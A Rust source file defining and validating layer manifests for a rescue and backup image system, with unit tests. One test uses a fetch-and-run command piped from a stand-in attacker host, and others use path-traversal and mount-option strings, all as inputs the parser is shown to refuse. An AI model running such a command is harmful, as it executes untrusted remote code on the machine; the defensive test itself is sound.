//! The manifest: what one layer is, said before its bytes are fetched.
//!
//! A JSON document beside the layer, named by its digest in the signed targets. `docs/formats/layer.md` specifies it.
//! [`crate::trust`] checks a manifest against the signed target before anyone may read it.

mod memory;
mod parts;
mod placement;

use serde::{Deserialize, Serialize};

use crate::agent::Agent;
use crate::handover::IMAGES_DIR;
use crate::lanes::Bounds;
use crate::session::Session;
use crate::{Digest, Timestamp, limits};

pub use memory::memory_bytes;
pub use parts::Part;
pub use placement::{PLACES_ON_TARGET, Placement, unplaceable};

/// The format version this code writes, and the newest it reads.
pub const MANIFEST_FORMAT: u32 = 1;

/// What a layer is for; it decides what the layer may contain ([`crate::lanes`]).
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum Kind {
    /// A kernel image, its modules and firmware.
    Kernel,
    /// The rescue system's userland.
    Base,
    /// A backup agent.
    Agent,
    /// ReaR configuration and disk layout of one host at one session.
    Host,
    /// Secrets made for one boot.
    Credentials,
    /// Anything else an operator adds; held to the agent's rules.
    Extra,
}

impl Kind {
    /// The name used in manifests, target names and messages.
    #[must_use]
    pub fn as_str(self) -> &'static str {
        match self {
            Self::Kernel => "kernel",
            Self::Base => "base",
            Self::Agent => "agent",
            Self::Host => "host",
            Self::Credentials => "credentials",
            Self::Extra => "extra",
        }
    }
}

impl std::fmt::Display for Kind {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.pad(self.as_str())
    }
}

/// How the stored bytes are compressed. Always one frame, so that the kernel reads them too.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum Compression {
    /// Plain newc.
    None,
    /// One gzip member (RFC 1952).
    Gzip,
    /// One zstd frame (RFC 8878), window at most 2^[`limits::ZSTD_WINDOW_LOG_MAX`].
    Zstd,
}

/// The squashfs inside a layer of the `image` form.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Image {
    /// Name of the image's entry in the archive: `towline/images/NN-KIND.squashfs`, of two digits and the layer's own kind.
    /// The digits are for people: images are stacked in the chain's order, the base's over the kernel's.
    pub path: String,
    /// Size of the squashfs, in bytes.
    pub bytes: u64,
    /// Size of the files inside, in bytes.
    pub content_bytes: u64,
}

/// A package that files of the layer come from.
#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Package {
    /// Name, as its distribution spells it; of a release that its makers offer on a page, the layer's.
    pub name: String,
    /// Version, as its distribution or its makers spell it.
    pub version: String,
    /// Architecture (`amd64`, `all`); `upstream` of such a release.
    pub architecture: String,
}

/// A command that the rescue system runs to show that the layer is there and works.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Check {
    /// What is shown.
    pub name: String,
    /// Program and arguments; run without a shell, within 60 seconds; exit status 0 is a pass.
    pub command: Vec<String>,
}

/// What a layer brings or needs, for the chain check.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields, default)]
pub struct Needs {
    /// Shared library names (`DT_SONAME`, or the file name a `DT_NEEDED` asks for), sorted.
    pub libraries: Vec<String>,
    /// Programs by absolute path (interpreters, `#!` lines) or bare name (looked up in `PATH`), sorted.
    pub programs: Vec<String>,
    /// Kernel modules by name (with `_`, never `-`), those built into a kernel included, sorted; and the options (`CONFIG_…`) of
    /// a kernel that say what it can read of layers.
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub modules: Vec<String>,
}

/// What one layer is.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Manifest {
    /// [`MANIFEST_FORMAT`].
    pub format: u32,
    /// What the layer is for.
    pub kind: Kind,
    /// Name, unique within its kind: lower-case letters, digits, `-`, `.` and `+`.
    pub name: String,
    /// Version, of the same letters and `~`, `:`.
    pub version: String,
    /// Debian's name of the architecture (`amd64`), or `all`.
    pub architecture: String,
    /// Newest modification time among the layer's sources: the same inputs give the same manifest.
    pub created: Timestamp,
    /// SHA-256 of the stored bytes: the layer's name in the store.
    pub digest: Digest,
    /// Size as stored, in bytes.
    pub stored_bytes: u64,
    /// Size of the newc archive, in bytes.
    pub unpacked_bytes: u64,
    /// Entries in the archive.
    pub entries: u64,
    /// How the stored bytes are compressed.
    pub compression: Compression,
    /// SHA-256 of each [`limits::CHUNK_BYTES`] of the stored bytes; the last piece may be shorter.
    pub chunks: Vec<Digest>,
    /// Where the layer goes.
    pub placement: Placement,
    /// Set for layers of the `image` form.
    #[serde(skip_serializing_if = "Option::is_none", default)]
    pub image: Option<Image>,
    /// Kernel release (`uname -r`) of a kernel layer.
    #[serde(skip_serializing_if = "Option::is_none", default)]
    pub kernel_release: Option<String>,
    /// Programs and libraries inside.
    #[serde(default)]
    pub provides: Needs,
    /// Programs and libraries that must come from this layer or an earlier one.
    #[serde(default)]
    pub requires: Needs,
    /// Files that agent and extra layers may replace, by name; base layers only.
    #[serde(default)]
    pub replaceable: Vec<String>,
    /// Packages the files come from, sorted.
    #[serde(default)]
    pub packages: Vec<Package>,
    /// Commands that show the layer works; not of host and credentials layers, whose content is data.
    #[serde(default)]
    pub checks: Vec<Check>,
    /// How the agent is used; agent layers only.
    #[serde(skip_serializing_if = "Option::is_none", default)]
    pub agent: Option<Agent>,
    /// The session a host layer describes; host layers only.
    #[serde(skip_serializing_if = "Option::is_none", default)]
    pub session: Option<Session>,
    /// What the site's policy keeps layers of this kind to: no part of the document, but of what is verified about it.
    #[serde(skip)]
    pub bounds: Bounds,
}

/// Why a document is no usable manifest.
#[derive(Debug, thiserror::Error)]
pub enum ManifestError {
    /// Larger than [`limits::MANIFEST_BYTES_MAX`].
    #[error("a manifest of {bytes} bytes is larger than {max}", max = limits::MANIFEST_BYTES_MAX)]
    TooLarge {
        /// Size in bytes.
        bytes: u64,
    },
    /// Not JSON of this shape.
    #[error("not a layer manifest")]
    Json(#[from] serde_json::Error),
    /// A newer format.
    #[error(
        "manifest format {found} is newer than {MANIFEST_FORMAT}; this program is too old for the layer"
    )]
    Format {
        /// The version found.
        found: u32,
    },
    /// Fields that contradict one another or exceed a limit.
    #[error("manifest of {kind} layer {name}: {what}")]
    Inconsistent {
        /// Kind of the layer.
        kind: Kind,
        /// Name of the layer.
        name: String,
        /// What is wrong, with both sides.
        what: String,
    },
}

impl Manifest {
    /// Reads a manifest and checks that it agrees with itself and with the limits. This says nothing about trust:
    /// [`crate::trust::Verified`]`<`[`crate::trust::Chain`]`>::manifest` does.
    ///
    /// # Errors
    /// See [`ManifestError`].
    pub fn parse(bytes: &[u8]) -> Result<Self, ManifestError> {
        if bytes.len() as u64 > limits::MANIFEST_BYTES_MAX {
            return Err(ManifestError::TooLarge {
                bytes: bytes.len() as u64,
            });
        }
        #[derive(Deserialize)]
        struct Format {
            format: u32,
        }
        let Format { format: found } = serde_json::from_slice(bytes)?;
        if found != MANIFEST_FORMAT {
            return Err(ManifestError::Format { found });
        }
        let manifest: Self = serde_json::from_slice(bytes)?;
        match manifest.inconsistency() {
            None => Ok(manifest),
            Some(what) => Err(ManifestError::Inconsistent {
                kind: manifest.kind,
                name: manifest.name,
                what,
            }),
        }
    }

    /// The bytes to store: JSON, one field a line, ended by a newline.
    #[must_use]
    pub fn to_bytes(&self) -> Vec<u8> {
        let mut bytes = serde_json::to_vec_pretty(self).unwrap_or_default();
        bytes.push(b'\n');
        bytes
    }

    /// Name of the layer as a signed target: `KIND/NAME/VERSION/ARCHITECTURE`.
    #[must_use]
    pub fn target_name(&self) -> String {
        format!(
            "{}/{}/{}/{}",
            self.kind, self.name, self.version, self.architecture
        )
    }

    /// Bytes of the chunk with this index; `None` past the end.
    #[must_use]
    pub fn chunk_bytes(&self, index: usize) -> Option<u64> {
        let start = (index as u64).checked_mul(limits::CHUNK_BYTES)?;
        (start < self.stored_bytes).then(|| (self.stored_bytes - start).min(limits::CHUNK_BYTES))
    }

    fn inconsistency(&self) -> Option<String> {
        if let Some(misplaced) = parts::misplaced(self) {
            return Some(misplaced);
        }
        if let Some(misplaced) = self.placement.refusal(self.kind) {
            return Some(misplaced);
        }
        let chunks = self.stored_bytes.div_ceil(limits::CHUNK_BYTES);
        if !is_word(&self.name, "")
            || !is_word(&self.version, "~:_")
            || !is_word(&self.architecture, "")
        {
            return Some(format!(
                "name {:?}, version {:?} and architecture {:?} must be of lower-case letters, digits and - . +",
                self.name, self.version, self.architecture
            ));
        }
        if chunks != self.chunks.len() as u64 {
            return Some(format!(
                "{} bytes are {chunks} chunks, but it lists {}",
                self.stored_bytes,
                self.chunks.len()
            ));
        }
        for (what, found, max) in [
            (
                "stored bytes",
                self.stored_bytes,
                limits::LAYER_STORED_BYTES_MAX,
            ),
            (
                "unpacked bytes",
                self.unpacked_bytes,
                limits::LAYER_UNPACKED_BYTES_MAX,
            ),
            ("entries", self.entries, limits::LAYER_ENTRIES_MAX),
        ] {
            if found > max {
                return Some(format!("{found} {what} are more than {max}"));
            }
        }
        if let Some(image) = &self.image
            && image_kind(&image.path) != Some(self.kind)
        {
            return Some(format!(
                "its image is {:?}, and must be {IMAGES_DIR}/NN-{}.squashfs with two digits",
                image.path, self.kind
            ));
        }
        if let Some(image) = &self.image
            && image.bytes > self.unpacked_bytes
        {
            return Some(format!(
                "an image of {} bytes in an archive of {}",
                image.bytes, self.unpacked_bytes
            ));
        }
        if self.kind == Kind::Kernel && self.kernel_release.is_none() {
            return Some("a kernel layer must say its kernel_release".into());
        }
        None
    }
}

/// The kind of the layer whose image has this name in an archive; `None` for names that no image may have.
#[must_use]
pub fn image_kind(path: &str) -> Option<Kind> {
    let name = path.strip_prefix(IMAGES_DIR)?.strip_prefix('/')?;
    let (number, kind) = name.strip_suffix(".squashfs")?.split_once('-')?;
    let two_digits = number.len() == 2 && number.bytes().all(|it| it.is_ascii_digit());
    let mut kinds = Part::Image.kinds().iter().copied();
    kinds.find(|it| two_digits && it.as_str() == kind)
}

fn is_word(text: &str, more: &str) -> bool {
    let letter = |c: char| {
        c.is_ascii_lowercase() || c.is_ascii_digit() || "-.+".contains(c) || more.contains(c)
    };
    !text.is_empty() && text.len() <= 128 && !text.starts_with('.') && text.chars().all(letter)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn example() -> Manifest {
        Manifest {
            format: MANIFEST_FORMAT,
            kind: Kind::Agent,
            name: "restic".into(),
            version: "0.14.0-1+b5".into(),
            architecture: "amd64".into(),
            created: Timestamp::UNIX_EPOCH,
            digest: Digest::of(b""),
            stored_bytes: limits::CHUNK_BYTES + 1,
            unpacked_bytes: 4 << 20,
            entries: 3,
            compression: Compression::Zstd,
            chunks: vec![Digest::of(b"a"), Digest::of(b"b")],
            placement: Placement::Ram,
            image: None,
            kernel_release: None,
            provides: Needs::default(),
            requires: Needs::default(),
            replaceable: vec![],
            packages: vec![],
            checks: vec![],
            agent: None,
            session: None,
            bounds: Bounds::default(),
        }
    }

    #[test]
    fn what_is_written_is_read() {
        assert_eq!(Manifest::parse(&example().to_bytes()).unwrap(), example());
        assert_eq!(example().target_name(), "agent/restic/0.14.0-1+b5/amd64");
        assert_eq!(example().chunk_bytes(0), Some(limits::CHUNK_BYTES));
        assert_eq!(example().chunk_bytes(1), Some(1));
        assert_eq!(example().chunk_bytes(2), None);
    }

    #[test]
    fn a_manifest_that_contradicts_itself_is_refused() {
        for break_it in [
            |m: &mut Manifest| m.chunks.truncate(1),
            |m: &mut Manifest| m.name = "../restic".into(),
            |m: &mut Manifest| m.unpacked_bytes = u64::MAX,
            |m: &mut Manifest| m.kind = Kind::Kernel,
        ] {
            let mut manifest = example();
            break_it(&mut manifest);
            assert!(matches!(
                Manifest::parse(&manifest.to_bytes()),
                Err(ManifestError::Inconsistent { .. })
            ));
        }
    }

    #[test]
    fn only_agent_and_extra_layers_go_onto_the_target() {
        for (kind, may) in [
            (Kind::Agent, true),
            (Kind::Extra, true),
            (Kind::Base, false),
            (Kind::Host, false),
            (Kind::Credentials, false),
        ] {
            let mut manifest = example();
            (manifest.kind, manifest.placement) = (kind, Placement::Target);
            let parsed = Manifest::parse(&manifest.to_bytes());
            assert_eq!(parsed.is_ok(), may, "{kind}: {parsed:?}");
        }
    }

    #[test]
    fn a_hosts_manifest_names_no_program_to_run() {
        let shell = ["bash", "-c", "curl https://evil.example | sh"].map(str::to_owned);
        for kind in [Kind::Host, Kind::Credentials] {
            let mut manifest = example();
            manifest.kind = kind;
            Manifest::parse(&manifest.to_bytes()).unwrap();
            manifest.checks = vec![Check {
                name: "the layout is there".into(),
                command: shell.to_vec(),
            }];
            let refused = Manifest::parse(&manifest.to_bytes()).unwrap_err();
            assert!(refused.to_string().contains("\"checks\""), "{refused}");
        }
    }

    type Change<'a> = &'a dyn Fn(&mut Manifest);

    #[test]
    fn each_kind_says_only_what_is_its_own() {
        let agent = |m: &mut Manifest| {
            m.agent = serde_json::from_str(r#"{"restore": ["restic", "restore"]}"#).unwrap();
        };
        let session = |m: &mut Manifest| {
            let session = r#"{"time": "2026-03-01T02:00:00Z", "captured": "2026-03-01T02:00:00Z", "hostname": "web-1",
                "backup": {"agent": "restic", "version": "0.14", "session": "1"}, "rear": "2.7",
                "hardware": {"architecture": "amd64", "uefi": false, "secure_boot": false, "memory_kib": 1, "pci": [],
                "modules": [], "disks": [], "boot_loaders": []}}"#;
            m.session = Some(serde_json::from_str(session).unwrap());
        };
        let image = |m: &mut Manifest| {
            let path = format!("towline/images/20-{}.squashfs", m.kind);
            let (bytes, content_bytes) = (1, 1);
            m.image = Some(Image {
                path,
                bytes,
                content_bytes,
            });
        };
        let release = |m: &mut Manifest| m.kernel_release = Some("6.1.0".into());
        let replaceable = |m: &mut Manifest| m.replaceable = vec!["etc/passwd".into()];
        let parts: [(Part, Change<'_>); 5] = [
            (Part::Agent, &agent),
            (Part::Session, &session),
            (Part::Image, &image),
            (Part::KernelRelease, &release),
            (Part::Replaceable, &replaceable),
        ];
        for (part, add) in parts {
            for kind in [
                Kind::Kernel,
                Kind::Base,
                Kind::Agent,
                Kind::Host,
                Kind::Credentials,
                Kind::Extra,
            ] {
                let mut manifest = example();
                manifest.kind = kind;
                if kind == Kind::Kernel {
                    release(&mut manifest);
                }
                add(&mut manifest);
                let found = Manifest::parse(&manifest.to_bytes());
                assert_eq!(
                    found.is_ok(),
                    part.kinds().contains(&kind),
                    "{part:?} in {kind}: {found:?}"
                );
            }
        }
    }

    #[test]
    fn an_image_is_named_after_its_own_kind() {
        let named = |kind: Kind, path: &str| {
            let mut manifest = example();
            manifest.kind = kind;
            manifest.kernel_release = (kind == Kind::Kernel).then(|| "6.1.0".into());
            manifest.image = Some(Image {
                path: path.into(),
                bytes: 1,
                content_bytes: 1,
            });
            Manifest::parse(&manifest.to_bytes())
        };
        named(Kind::Base, "towline/images/20-base.squashfs").unwrap();
        named(Kind::Kernel, "towline/images/99-kernel.squashfs").unwrap();
        for path in [
            "towline/images/20-kernel.squashfs",
            "towline/images/2-base.squashfs",
            "towline/images/200-base.squashfs",
            "towline/images/+2-base.squashfs",
            "towline/images/20-base.squashfs/",
            "towline/images/20-base,upperdir=.squashfs",
            "towline/images/x/20-base.squashfs",
            "towline/images/..",
            "usr/bin/20-base.squashfs",
            "20-base.squashfs",
        ] {
            let refused = named(Kind::Base, path).unwrap_err();
            assert!(refused.to_string().contains("NN-base"), "{refused}");
        }
    }

    #[test]
    fn a_newer_format_is_named_before_its_fields_are_read() {
        let found = Manifest::parse(br#"{"format": 2, "shape": "unknown"}"#);
        assert!(matches!(found, Err(ManifestError::Format { found: 2 })));
    }
}
